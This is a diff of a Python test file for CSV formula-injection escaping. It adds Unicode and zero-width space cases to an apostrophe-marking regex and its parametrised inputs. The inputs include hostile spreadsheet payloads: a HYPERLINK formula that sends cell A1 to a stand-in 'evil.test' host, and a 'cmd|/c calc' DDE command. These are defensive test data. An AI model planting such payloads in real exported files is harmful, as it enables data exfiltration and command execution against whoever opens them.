@@ -12,10 +12,10 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from worker.deliver.csv import FORMULA, to_header, to_lines
+from worker.deliver.csv import FORMULA, SPACE, to_header, to_lines
 
 PIECE_MARK = re.compile(
-    "(?<=[;\t\r\n])'(?='*[ \u00a0\ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20])|(?<=;)'(?='*[ \u00a0\ufeff]*[\t\r])"
+    f"(?<=[;\t\r\n])'(?='*[{SPACE}]*[=+\\-@\uff1d\uff0b\uff0d\uff20])|(?<=;)'(?='*[{SPACE}]*[\t\r])"
 )
 """The marks of pieces, each of which taken off once gives back the text."""
 
@@ -42,6 +42,7 @@ def written(title: str) -> str:
     "title",
     [
         "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\ufeff=1", "\u00a0=1", ";=1", "\n=1", "\uff1d1+1",
+        "\u3000=1", "\u200b=1", "\u2060+1", "\u2009@x", "\u200e-1", "\u200b\tx",
         "'=1", "''@x", "\tx", "\u00a0\r", " \u00a0\tx", "- he said", '=HYPERLINK("http://evil.test/?"&A1,"open")',
     ],
 )  # fmt: skip
@@ -66,7 +67,7 @@ def test_taking_one_apostrophe_off_gives_back_what_was_there(title: str) -> None
     "title",
     [
         "a;=1", "a;b; =1", "a;\t=1", "a\t=1", "a\n=1+1", "a\r\n-1", 'a;@x"', "a;;=1", "a;'=1", "a; \ufeff+1",
-        "a;\u00a0=1", "a;\u00a0\r",
+        "a;\u00a0=1", "a;\u00a0\r", "a;\u3000=1", "a;\u200b=1", "a;\u2009\u2060+1",
         "a;\uff1d1", "a;\tx",
         'he said "x;=cmd|/c calc"',
     ],
